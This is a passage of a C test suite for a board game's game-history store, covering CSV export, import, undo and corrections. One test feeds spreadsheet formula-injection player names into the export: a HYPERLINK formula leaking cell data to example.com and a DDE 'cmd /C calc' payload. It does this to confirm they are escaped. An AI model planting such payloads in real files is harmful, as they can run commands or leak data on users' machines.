/* The cell of the row where @name plays ("player" is column 6). */
static const char *
csv_cell_of (GPtrArray  *rows,
             const char *player_cell,
             guint       column)
{
  for (guint r = 1; r < rows->len; r++)
    {
      GPtrArray *row = g_ptr_array_index (rows, r);

      g_assert_cmpuint (row->len, ==, 10);
      if (g_str_equal (g_ptr_array_index (row, 6), player_cell))
        return g_ptr_array_index (row, column);
    }
  g_assert_not_reached ();
  return NULL;
}

/* A name a spreadsheet would take for a formula (=, +, -, @, a tab or a carriage return first)
 * is written as text: quoted, with a ' before it. Other names stay as they are, and numbers stay
 * numbers: a name that is a number, and a score below zero. */
static void
test_export_csv_formulas (Fixture       *fixture,
                          gconstpointer  data)
{
  static const char * const dangerous[] = {
    "=HYPERLINK(\"http://example.com/?\"&A1,\"Anna\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\tTab", "\rReturn", NULL,
  };
  static const char * const first[] = { "=HYPERLINK(\"http://example.com/?\"&A1,\"Anna\")", "+1+cmd|' /C calc'!A0",
                                        "-2+3", "@SUM(A1:A9)", NULL };
  static const char * const second[] = { "\tTab", "\rReturn", "Anna", "-3", "Bram, the elder", NULL };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) a = record_with_players (first);
  g_autoptr(TesseraRecord) b = record_with_players (second);
  g_autoptr(GPtrArray) rows = NULL;
  g_autofree char *csv = NULL;
  gint64 second_id;

  g_assert_no_error (error);
  tessera_store_add_game (store, a, &error);
  g_assert_no_error (error);
  second_id = tessera_store_add_game (store, b, &error);
  g_assert_no_error (error);
  g_clear_object (&store);
  /* The second game finished, Anna's score below zero (a correction can take her there). */
  {
    g_autofree char *sql = g_strdup_printf ("UPDATE games SET state = 'finished' WHERE id = %" G_GINT64_FORMAT ";"
                                                                                                               "UPDATE game_players SET final_score = 10 - 13 * (seat = 2), "
                                                                                                               "rank = 1 + (seat = 2) WHERE game = %" G_GINT64_FORMAT,
                                            second_id, second_id);

    run_sql (fixture->path, sql);
  }
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  csv = tessera_store_export_csv (store, &error);
  g_assert_no_error (error);
  rows = parse_csv (csv);
  g_assert_cmpuint (rows->len, ==, 1 + 4 + 5);

  for (guint i = 0; dangerous[i] != NULL; i++)
    {
      g_autofree char *guarded = g_strconcat ("'", dangerous[i], NULL);
      g_autofree char *quoted = g_strdup_printf (",\"'%c", dangerous[i][0]);

      /* Every dangerous first character is behind the ', inside quotes. */
      g_assert_nonnull (strstr (csv, quoted));
      csv_cell_of (rows, guarded, 6);
    }
  /* No cell of the file starts a formula; the rest is as it was. */
  for (guint r = 0; r < rows->len; r++)
    {
      GPtrArray *row = g_ptr_array_index (rows, r);

      for (guint k = 0; k < row->len; k++)
        {
          const char *cell = g_ptr_array_index (row, k);

          g_assert_true (cell[0] == '\0' || strchr ("=+@\t\r", cell[0]) == NULL);
          g_assert_true (cell[0] != '-' || g_str_equal (cell, "-3"));
        }
    }
  g_assert_cmpstr (csv_cell_of (rows, "Anna", 8), ==, "-3");
  g_assert_cmpstr (csv_cell_of (rows, "Anna", 9), ==, "2");
  g_assert_cmpstr (csv_cell_of (rows, "-3", 8), ==, "10");
  g_assert_cmpstr (csv_cell_of (rows, "Bram, the elder", 7), ==, "black");
  g_assert_nonnull (strstr (csv, ",2,Anna,green,-3,2\r\n"));
  g_assert_nonnull (strstr (csv, ",3,-3,yellow,10,1\r\n"));
}

/* An event is stored once, as the next of its game: the same state saved twice, or a game
 * that is not there, is refused and changes nothing. */
static void
test_event_order (Fixture       *fixture,
                  gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (7, 2);
  g_autoptr(TesseraGame) game = tessera_game_new_from_record (record, 3, &error);
  gint64 game_id;

  g_assert_no_error (error);
  game_id = tessera_store_add_game (store, record, &error);
  g_assert_no_error (error);
  g_assert_false (tessera_store_save_event (store, game_id, game, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_FAILED);
  g_assert_nonnull (strstr (error->message, "with 2 events before this one"));
  g_clear_error (&error);
  g_assert_false (tessera_store_save_event (store, game_id + 1, game, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_FAILED);
  g_clear_error (&error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM events"), ==, 0);
  g_assert_null (tessera_store_load_record (store, game_id + 1, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
}

/* A record goes in once: importing it again, or importing what the history exports, finds the
 * game already there. */
static void
test_import_once (Fixture       *fixture,
                  gconstpointer  data)
{
  static const char * const everything[] = { "wheel-of-fortune", "tower", "mage-witch", "crop-circles", NULL };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game_with_sets (11, 3, everything);
  g_autoptr(TesseraRecord) exported = NULL;
  g_autoptr(TesseraRecord) reread = NULL;
  g_autofree char *text = NULL;
  gboolean already = TRUE;
  gint64 game_id, again;

  g_assert_no_error (error);
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);
  g_assert_cmpint (game_id, >, 0);
  g_assert_false (already);

  again = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);
  g_assert_true (already);
  g_assert_cmpint (again, ==, game_id);

  exported = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  text = tessera_record_to_data (exported);
  reread = tessera_record_load_from_data (text, -1, &error);
  g_assert_no_error (error);
  again = tessera_store_import_record (store, reread, &already, &error);
  g_assert_no_error (error);
  g_assert_true (already);
  g_assert_cmpint (again, ==, game_id);

  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, 1);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'finished' AND imported IS NOT NULL"), ==, 1);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM events"), ==, record->events->len);
}

/* A game played in the app and finished there is recognised when its export is imported; once
 * its end is taken back it is another record (the last tile still ends it), and so is the
 * export of a corrected game. */
static void
test_played_game_recognised (Fixture       *fixture,
                             gconstpointer  data)
{
  static const char * const sets[] = { "wheel-of-fortune", "tower", NULL };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game_with_sets (31, 2, sets);
  g_autoptr(TesseraRecord) exported = NULL;
  g_autoptr(TesseraRecord) reopened = NULL;
  gboolean already = FALSE;
  gint64 game_id, again;

  g_assert_no_error (error);
  game_id = store_game_as_played (store, record);
  exported = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  again = tessera_store_import_record (store, exported, &already, &error);
  g_assert_no_error (error);
  g_assert_true (already);
  g_assert_cmpint (again, ==, game_id);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, 1);

  /* Undo the end: the game is still over (B11), but the exported record is no longer this
   * game's; the game is recognised by its record without the end. */
  g_assert_true (tessera_store_truncate (store, game_id, record->events->len - 1, &error));
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'finished' AND imported IS NOT NULL"), ==, 1);
  reopened = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  again = tessera_store_import_record (store, exported, &already, &error);
  g_assert_no_error (error);
  g_assert_false (already);
  g_assert_cmpint (again, !=, game_id);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, 2);
}

/* @record with its tenth event's tile far from the others: a move the engine refuses. */
static TesseraRecord *
break_record (const TesseraRecord *record)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *text = tessera_record_to_data (record);
  g_autoptr(TesseraRecord) copy = NULL;
  TesseraRecord *broken;
  TesseraEvent *event;

  copy = tessera_record_load_from_data (text, -1, &error);
  g_assert_no_error (error);
  event = g_ptr_array_index (copy->events, 10);
  event->at.x = 500;
  g_free (text);
  text = tessera_record_to_data (copy);
  broken = tessera_record_load_from_data (text, -1, &error);
  g_assert_no_error (error);
  return broken;
}

/* A record with a move that breaks a rule is refused with the engine's message, and nothing of
 * it is stored. */
static void
test_import_refuses_illegal (Fixture       *fixture,
                             gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (12, 2);
  g_autoptr(TesseraRecord) broken = break_record (record);
  gboolean already = TRUE;

  g_assert_no_error (error);
  g_assert_cmpint (tessera_store_import_record (store, broken, &already, &error), ==, 0);
  g_assert_error (error, TESSERA_ERROR, TESSERA_ERROR_RULE);
  g_assert_nonnull (strstr (error->message, "event 10"));
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, 0);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players"), ==, 0);
}

/* Every row @sql finds in the history at @path, its columns joined by '|' and each row ended
 * by a line break: two results compare as text. */
static char *
query_rows (const char *path,
            const char *sql)
{
  GString *rows = g_string_new (NULL);
  sqlite3 *db = NULL;
  sqlite3_stmt *statement = NULL;
  int step;

  g_assert_cmpint (sqlite3_open_v2 (path, &db, SQLITE_OPEN_READONLY, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_prepare_v2 (db, sql, -1, &statement, NULL), ==, SQLITE_OK);
  while ((step = sqlite3_step (statement)) == SQLITE_ROW)
    {
      for (int c = 0; c < sqlite3_column_count (statement); c++)
        {
          const char *text = (const char *) sqlite3_column_text (statement, c);

          g_string_append_printf (rows, "%s%s", c > 0 ? "|" : "", text != NULL ? text : "NULL");
        }
      g_string_append_c (rows, '\n');
    }
  g_assert_cmpint (step, ==, SQLITE_DONE);
  sqlite3_finalize (statement);
  sqlite3_close (db);
  return g_string_free (rows, FALSE);
}

/* A batch: a record the engine refuses in the middle is reported with the same message as an
 * import of it alone, and the others are stored; a record the history holds, or one that
 * comes twice in the batch, is recognised. */
static void
test_import_batch (Fixture       *fixture,
                   gconstpointer  data)
{
  static const char * const everything[] = { "wheel-of-fortune", "tower", "mage-witch", "crop-circles", NULL };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) known = tessera_random_game (51, 3);
  g_autoptr(TesseraRecord) first = tessera_random_game_with_sets (52, 2, everything);
  g_autoptr(TesseraRecord) broken = break_record (first);
  g_autoptr(TesseraRecord) second = tessera_random_game (53, 4);
  const TesseraRecord *batch[] = { first, broken, known, second, first };
  TesseraImportResult results[G_N_ELEMENTS (batch)] = { { 0 } };
  gboolean already;
  gint64 known_id;

  g_assert_no_error (error);
  known_id = tessera_store_import_record (store, known, &already, &error);
  g_assert_no_error (error);

  g_assert_true (tessera_store_import_records (store, batch, G_N_ELEMENTS (batch), results, NULL, &error));
  g_assert_no_error (error);
  g_assert_no_error (results[0].error);
  g_assert_cmpint (results[0].game_id, >, known_id);
  g_assert_false (results[0].already);

  g_assert_error (results[1].error, TESSERA_ERROR, TESSERA_ERROR_RULE);
  g_assert_cmpint (results[1].game_id, ==, 0);
  g_assert_cmpint (tessera_store_import_record (store, broken, &already, &error), ==, 0);
  g_assert_error (error, TESSERA_ERROR, TESSERA_ERROR_RULE);
  g_assert_cmpstr (results[1].error->message, ==, error->message);
  g_clear_error (&error);

  g_assert_no_error (results[2].error);
  g_assert_true (results[2].already);
  g_assert_cmpint (results[2].game_id, ==, known_id);
  g_assert_no_error (results[3].error);
  g_assert_false (results[3].already);
  g_assert_cmpint (results[3].game_id, >, results[0].game_id);
  g_assert_no_error (results[4].error);
  g_assert_true (results[4].already);
  g_assert_cmpint (results[4].game_id, ==, results[0].game_id);

  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, 3);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM events"), ==,
                   (gint64) (known->events->len + first->events->len + second->events->len));
  for (guint i = 0; i < G_N_ELEMENTS (results); i++)
    tessera_import_result_clear (&results[i]);
}

/* A batch stores what importing its records one by one stores: the same games, players,
 * events and scorings, row for row. */
static void
test_import_batch_as_one_by_one (Fixture       *fixture,
                                 gconstpointer  data)
{
  static const char * const base[] = { "base", NULL };
  static const char * const wheel[] = { "wheel-of-fortune", "tower", NULL };
  static const char * const everything[] = { "wheel-of-fortune", "tower", "mage-witch", "crop-circles", NULL };
  static const char * const tables[] = {
    /* When it was stored stands in for a record's missing start and end. */
    "SELECT id, sets, rules, crop_circle_tiles, state, imported, box, played, purist FROM games ORDER BY id",
    "SELECT id, name, name_key, color FROM players ORDER BY id",
    "SELECT * FROM game_players ORDER BY game, seat",
    "SELECT * FROM events ORDER BY game, sequence",
    "SELECT * FROM score_events ORDER BY game, sequence, position",
  };
  g_autofree char *alone_path = g_build_filename (fixture->folder, "alone.db", NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) alone = tessera_store_open (alone_path, &error);
  g_autoptr(TesseraStore) batched = tessera_store_open (fixture->path, &error);
  g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func ((GDestroyNotify) tessera_record_free);
  g_autofree TesseraImportResult *results = NULL;

  g_assert_no_error (error);
  for (guint i = 0; i < 12; i++)
    g_ptr_array_add (records, tessera_random_game_with_sets (60 + i, 2 + i % 4, i % 3 == 0 ? base : i % 3 == 1 ? wheel : everything));
  for (guint i = 0; i < records->len; i++)
    {
      gboolean already;

      g_assert_cmpint (tessera_store_import_record (alone, g_ptr_array_index (records, i), &already, &error), >, 0);
      g_assert_no_error (error);
    }
  results = g_new0 (TesseraImportResult, records->len);
  g_assert_true (tessera_store_import_records (batched, (const TesseraRecord * const *) records->pdata, records->len,
                                               results, NULL, &error));
  g_assert_no_error (error);
  g_clear_object (&alone);
  g_clear_object (&batched);

  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM score_events"), >, 0);
  for (guint i = 0; i < G_N_ELEMENTS (tables); i++)
    {
      g_autofree char *expected = query_rows (alone_path, tables[i]);
      g_autofree char *got = query_rows (fixture->path, tables[i]);

      g_assert_cmpstr (got, ==, expected);
    }
}

/* A history that may not be written: the batch is refused whole, with the reason. */
static void
test_import_batch_read_only (Fixture       *fixture,
                             gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (81, 2);
  const TesseraRecord *batch[] = { record };
  TesseraImportResult results[1] = { { 0 } };

  g_assert_no_error (error);
  g_clear_object (&store);
  g_assert_cmpint (g_chmod (fixture->path, 0444), ==, 0);
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_true (tessera_store_is_read_only (store));
  g_assert_false (tessera_store_import_records (store, batch, 1, results, NULL, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_READ_ONLY);
  g_assert_cmpint (results[0].game_id, ==, 0);
  g_assert_null (results[0].error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, 0);
}

/* Undo takes events back with their scoring. A game that loses its "end" after the last tile
 * stays over (B11), with its final scores written again; one that loses its last turn is open
 * again, and goes on from the stored events. */
static void
test_undo (Fixture       *fixture,
           gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (13, 4);
  g_autoptr(TesseraRecord) resumed = NULL;
  g_autoptr(TesseraGame) game = NULL;
  guint n_events = record->events->len;
  guint last_turn = n_events - 1;
  gboolean already;
  gint64 game_id;

  while (((TesseraEvent *) g_ptr_array_index (record->events, last_turn))->kind != TESSERA_EVENT_TURN)
    last_turn--;
  g_assert_no_error (error);
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);

  g_assert_true (tessera_store_truncate (store, game_id, n_events, &error));
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'finished'"), ==, 1);

  /* Without its "end" (and what the table entered after the last tile) the game is still over. */
  g_assert_true (tessera_store_truncate (store, game_id, last_turn + 1, &error));
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'finished' AND ended IS NOT NULL"), ==, 1);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE final_score IS NULL OR rank IS NULL"), ==, 0);

  g_assert_true (tessera_store_truncate (store, game_id, last_turn, &error));
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'in-progress' AND ended IS NULL"), ==, 1);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE final_score IS NOT NULL OR rank IS NOT NULL"), ==, 0);

  /* Resume, and the last tile ends the game again. */
  resumed = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (resumed->events->len, ==, last_turn);
  game = tessera_game_new_from_record (resumed, G_MAXUINT, &error);
  g_assert_no_error (error);
  g_assert_false (tessera_game_is_finished (game));
  g_assert_true (tessera_game_apply (game, g_ptr_array_index (record->events, last_turn), &error));
  g_assert_true (tessera_game_is_finished (game));
  g_assert_true (tessera_store_save_event (store, game_id, game, &error));
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'finished'"), ==, 1);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE final_score IS NULL"), ==, 0);

  g_assert_true (tessera_store_truncate (store, game_id, 5, &error));
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM events"), ==, 5);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM score_events WHERE sequence >= 5"), ==, 0);

  g_assert_false (tessera_store_truncate (store, game_id + 1, 0, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
}

/* A game's box: stored with the game, corrected while it is played (the game's moves must
 * still hold, and nothing is written when they do not), and given back with the record. */
static void
test_box (Fixture       *fixture,
          gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_test_load_record ("box", "extra-copy-drawn.json", NULL);
  g_autoptr(TesseraRecord) header = tessera_record_copy_header (record);
  g_autoptr(TesseraRecord) loaded = NULL;
  g_autoptr(TesseraGame) game = NULL;
  g_autofree char *expected = tessera_record_to_data (record);
  g_autofree char *found = NULL;
  gint64 game_id;

  g_assert_no_error (error);
  /* Started with the box as it was before anyone noticed the second C. */
  g_clear_pointer (&header->box, g_array_unref);
  game_id = tessera_store_add_game (store, header, &error);
  g_assert_no_error (error);
  game = tessera_game_new (header, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < 2; i++)
    {
      g_assert_true (tessera_game_apply (game, g_ptr_array_index (record->events, i), &error));
      g_assert_true (tessera_store_save_event (store, game_id, game, &error));
      g_assert_no_error (error);
    }
  g_assert_false (tessera_game_apply (game, g_ptr_array_index (record->events, 2), &error));
  tessera_test_assert_error (error, TESSERA_ERROR_RULE,
                             "event 2 (turn of Red): no C is left in this box: 1 was in it and it is on the board; "
                             "if your box has another, correct the box's count");
  g_clear_error (&error);

  /* The box on the table has a second C. */
  g_assert_true (tessera_game_set_box_count (game, "C", 2, &error));
  g_assert_no_error (error);
  {
    g_autoptr(TesseraRecord) corrected = tessera_game_to_record (game);

    g_assert_true (tessera_store_save_box (store, game_id, corrected, &error));
    g_assert_no_error (error);
  }
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE box = '{\"C\": 2}'"), ==, 1);
  g_assert_true (tessera_game_apply (game, g_ptr_array_index (record->events, 2), &error));
  g_assert_true (tessera_store_save_event (store, game_id, game, &error));
  g_assert_no_error (error);
  loaded = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  found = tessera_record_to_data (loaded);
  g_assert_cmpstr (found, ==, expected);

  /* A box that no longer holds what was drawn is refused, and the stored box stays. */
  {
    g_autoptr(TesseraRecord) fewer = tessera_record_copy_header (record);

    tessera_record_set_box_count (fewer, "C", 1);
    g_assert_false (tessera_store_save_box (store, game_id, fewer, &error));
    tessera_test_assert_error (error, TESSERA_ERROR_RULE,
                               "event 2 (turn of Red): no C is left in this box: 1 was in it and it is on the board; "
                               "if your box has another, correct the box's count");
    g_clear_error (&error);
    g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE box = '{\"C\": 2}'"), ==, 1);
  }
  g_assert_false (tessera_store_save_box (store, game_id + 1, record, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
  g_clear_error (&error);

  /* An imported record keeps its box, and is recognised when imported again. */
  {
    g_autoptr(TesseraRecord) wheel = tessera_test_load_record ("box", "wheel-of-fortune-72.json", NULL);
    g_autoptr(TesseraRecord) back = NULL;
    g_autofree char *wheel_text = tessera_record_to_data (wheel);
    g_autofree char *back_text = NULL;
    gboolean already = TRUE;
    gint64 wheel_id = tessera_store_import_record (store, wheel, &already, &error);

    g_assert_no_error (error);
    g_assert_false (already);
    back = tessera_store_load_record (store, wheel_id, &error);
    g_assert_no_error (error);
    back_text = tessera_record_to_data (back);
    g_assert_cmpstr (back_text, ==, wheel_text);
    g_assert_cmpint (tessera_store_import_record (store, back, &already, &error), ==, wheel_id);
    g_assert_true (already);
  }
}

/* When and where a game was played: kept as the record says it through import and export;
 * the history dates the game by it (in UTC), counts it in the month it was played in (its own
 * time: a game begun late on 30 November in Montréal is a November game, though it is already
 * December in UTC), forgets the end when the end is undone, and takes the end the app gives. */
static void
test_played (Fixture       *fixture,
             gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_test_load_record ("played", "late-night-across-months.json", NULL);
  g_autoptr(TesseraRecord) loaded = NULL;
  g_autoptr(GArray) months = NULL;
  g_autofree char *expected = tessera_record_to_data (record);
  g_autofree char *found = NULL;
  gboolean already = TRUE;
  gint64 game_id;

  g_assert_no_error (error);
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);
  loaded = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  found = tessera_record_to_data (loaded);
  g_assert_cmpstr (found, ==, expected);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE started = '2026-12-01T04:30:00Z' "
                                             "AND ended = '2026-12-01T06:10:00Z'"), ==, 1);
  months = tessera_store_count_games_by_month (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (months->len, ==, 1);
  g_assert_cmpstr (g_array_index (months, TesseraMonthCount, 0).month, ==, "2026-11");

  /* Undoing the end: the game is on again, begun then and there, not ended. */
  g_assert_true (tessera_store_truncate (store, game_id, record->events->len - 1, &error));
  g_assert_no_error (error);
  g_clear_pointer (&loaded, tessera_record_free);
  loaded = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  g_assert_nonnull (loaded->played);
  g_assert_cmpstr (loaded->played->start, ==, "2026-11-30T23:30:00-05:00");
  g_assert_null (loaded->played->end);
  g_assert_cmpstr (loaded->played->place, ==, "Café ‘t Hoekje, Montréal");
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE ended IS NULL"), ==, 1);

  /* The app ends it later and says when. */
  {
    g_autoptr(TesseraGame) game = tessera_game_new_from_record (loaded, G_MAXUINT, &error);
    g_autoptr(TesseraEvent) end = tessera_event_new (TESSERA_EVENT_END);
    TesseraPlayed played = { (char *) loaded->played->start, (char *) "2026-12-01T01:25:00-05:00", loaded->played->place };

    g_assert_no_error (error);
    g_assert_true (tessera_game_set_played (game, &played, &error));
    g_assert_no_error (error);
    g_assert_true (tessera_game_apply (game, end, &error));
    g_assert_true (tessera_store_save_event (store, game_id, game, &error));
    g_assert_no_error (error);
  }
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE ended = '2026-12-01T06:25:00Z' "
                                             "AND json_extract (played, '$.end') = '2026-12-01T01:25:00-05:00'"), ==, 1);
}

/* The stored events of @game_id, as record text. */
static char *
stored_text (TesseraStore *store,
             gint64        game_id)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraRecord) record = tessera_store_load_record (store, game_id, &error);

  g_assert_no_error (error);
  return tessera_record_to_data (record);
}

/* Correcting an earlier turn replays what follows; a correction that breaks a rule, there or
 * in any later event, is refused with the engine's message and writes nothing. */
static void
test_correct_earlier_turn (Fixture       *fixture,
                           gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (21, 3);
  g_autoptr(TesseraRecord) expected = NULL;
  g_autoptr(TesseraGame) corrected = NULL;
  g_autoptr(TesseraGame) replayed = NULL;
  g_autoptr(TesseraEvent) no_follower = NULL;
  g_autoptr(TesseraEvent) far_away = NULL;
  g_autoptr(TesseraEvent) end = tessera_event_new (TESSERA_EVENT_END);
  g_autofree char *expected_text = NULL;
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;
  g_autofree char *query = NULL;
  const TesseraEvent *original = NULL;
  gboolean already;
  gint64 game_id;
  guint index = 0;

  g_assert_no_error (error);
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);

  /* In the base game, a follower left out can make nothing later illegal. */
  while (((TesseraEvent *) g_ptr_array_index (record->events, index))->action != TESSERA_ACTION_FOLLOWER)
    index++;
  original = g_ptr_array_index (record->events, index);
  no_follower = tessera_event_new (TESSERA_EVENT_TURN);
  no_follower->player = original->player;
  tessera_event_set_tile (no_follower, original->tile);
  no_follower->at = original->at;
  no_follower->rotation = original->rotation;
  corrected = tessera_store_replace_event (store, game_id, index, no_follower, &error);
  g_assert_no_error (error);
  g_assert_nonnull (corrected);

  expected = tessera_record_copy_header (record);
  for (guint i = 0; i < record->events->len; i++)
    g_ptr_array_add (expected->events, tessera_event_ref (i == index ? no_follower : g_ptr_array_index (record->events, i)));
  expected_text = tessera_record_to_data (expected);
  before = stored_text (store, game_id);
  g_assert_cmpstr (before, ==, expected_text);
  replayed = tessera_game_new_from_record (expected, G_MAXUINT, &error);
  g_assert_no_error (error);
  for (guint p = 0; p < tessera_game_get_n_players (replayed); p++)
    {
      g_autofree char *final = g_strdup_printf ("SELECT final_score FROM game_players WHERE game = %" G_GINT64_FORMAT " AND seat = %u", game_id, p);

      g_assert_cmpint (tessera_game_get_score (corrected, p), ==, tessera_game_get_score (replayed, p));
      g_assert_cmpint (query_int (fixture->path, final), ==, tessera_game_get_score (replayed, p));
    }
  query = g_strdup_printf ("SELECT total (points) FROM score_events WHERE game = %" G_GINT64_FORMAT, game_id);
  {
    int total = 0;

    for (guint p = 0; p < tessera_game_get_n_players (replayed); p++)
      total += tessera_game_get_score (replayed, p);
    g_assert_cmpint (query_int (fixture->path, query), ==, total);
  }

  /* Illegal there: the tile far from the others. */
  far_away = tessera_event_new (TESSERA_EVENT_TURN);
  far_away->player = original->player;
  tessera_event_set_tile (far_away, original->tile);
  far_away->at.x = 500;
  g_assert_null (tessera_store_replace_event (store, game_id, index, far_away, &error));
  g_assert_error (error, TESSERA_ERROR, TESSERA_ERROR_RULE);
  g_clear_error (&error);

  /* Illegal later: the game ends early, and the next turn is refused. */
  g_assert_null (tessera_store_replace_event (store, game_id, 5, end, &error));
  g_assert_error (error, TESSERA_ERROR, TESSERA_ERROR_RULE);
  g_assert_nonnull (strstr (error->message, "event 6"));
  g_assert_nonnull (strstr (error->message, "the game has already ended"));
  g_clear_error (&error);

  g_assert_null (tessera_store_replace_event (store, game_id, 9999, end, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_FAILED);
  g_clear_error (&error);

  after = stored_text (store, game_id);
  g_assert_cmpstr (after, ==, before);
}

/* What game @game_id's rows of @table hold: @columns, in @order. */
static char *
game_rows (const char *path,
           const char *columns,
           const char *table,
           const char *key,
           gint64      game_id,
           const char *order)
{
  g_autofree char *sql = g_strdup_printf ("SELECT %s FROM %s WHERE %s = %" G_GINT64_FORMAT " ORDER BY %s",
                                          columns, table, key, game_id, order);

  return query_rows (path, sql);
}

/* How many rows each table of the history has, as one text. */
static char *
count_rows (const char *path)
{
  return query_rows (path, "SELECT (SELECT count(*) FROM games), (SELECT count(*) FROM players), "
                           "(SELECT count(*) FROM game_players), (SELECT count(*) FROM events), "
                           "(SELECT count(*) FROM score_events)");
}

/* Game @game_id's events and scorings as the engine replaying @record makes them, in the
 * history's rows (events_rows and scoring_rows below). */
static void
expected_rows (TesseraGame  *game,
               char        **events,
               char        **scorings)
{
  GString *event_rows = g_string_new (NULL);
  GString *scoring_rows = g_string_new (NULL);
  const TesseraScoreEvent *scores;
  guint n_scores, position = 0;

  for (guint i = 0; i < tessera_game_get_n_events (game); i++)
    {
      g_autofree char *data = tessera_event_to_data (tessera_game_get_event (game, i));

      g_string_append_printf (event_rows, "%u|%s\n", i, data);
    }
  scores = tessera_game_get_score_events (game, &n_scores);
  for (guint i = 0; i < n_scores; i++)
    {
      g_autoptr(JsonNode) reason = tessera_score_event_to_json (&scores[i]);
